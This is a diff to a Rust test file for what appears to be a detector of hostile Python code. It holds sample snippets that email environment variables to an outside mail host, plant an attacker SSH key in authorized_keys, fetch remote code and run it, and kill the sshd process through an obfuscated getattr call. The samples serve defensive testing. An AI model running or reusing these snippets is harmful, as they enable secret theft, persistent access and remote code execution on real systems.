@@ -1266,3 +1266,22 @@ fn attribute_getters_class_iterators_and_secrets_held_by_attributes() {
         "import json, os, smtplib\nfrom email.message import EmailMessage\nclass Envelope:\n    def __init__(self, payload):\n        self.msg = EmailMessage()\n        self.msg.set_content(payload)\n    def post(self):\n        with smtplib.SMTP('mail.example.net', 25) as conn:\n            conn.send_message(self.msg)\nEnvelope(json.dumps(dict(os.environ))).post()\n",
     );
 }
+
+#[test]
+fn context_manager_generators_pool_map_results_and_methods_by_getattr() {
+    // `with keyring() as f`: `f` is what the `@contextmanager` generator yields.
+    fires(
+        "CRD105",
+        "import contextlib, pathlib\n@contextlib.contextmanager\ndef keyring():\n    yield pathlib.Path.home() / '.ssh' / 'authorized_keys'\nwith keyring() as f:\n    with f.open('a') as fh:\n        fh.write('ssh-ed25519 AAAA attacker')\n",
+    );
+    // What `pool.map` returns is what its calls returned: fetched code, then run.
+    fires(
+        "CRD102",
+        "import types, urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\ndef get(url):\n    with urllib.request.urlopen(url) as r:\n        return r.read().decode()\nwith ThreadPoolExecutor(4) as ex:\n    src = ''.join(ex.map(get, ['https://cdn.example.net/1', 'https://cdn.example.net/2']))\ntypes.FunctionType(compile(src, 'x', 'exec'), globals())()\n",
+    );
+    // `getattr(proc, "kill")()` on a process found by name.
+    fires(
+        "CRD107",
+        "import psutil\nfor proc in psutil.process_iter(['name']):\n    if proc.info['name'] == 'sshd':\n        getattr(proc, 'ki' + 'll')()\n",
+    );
+}
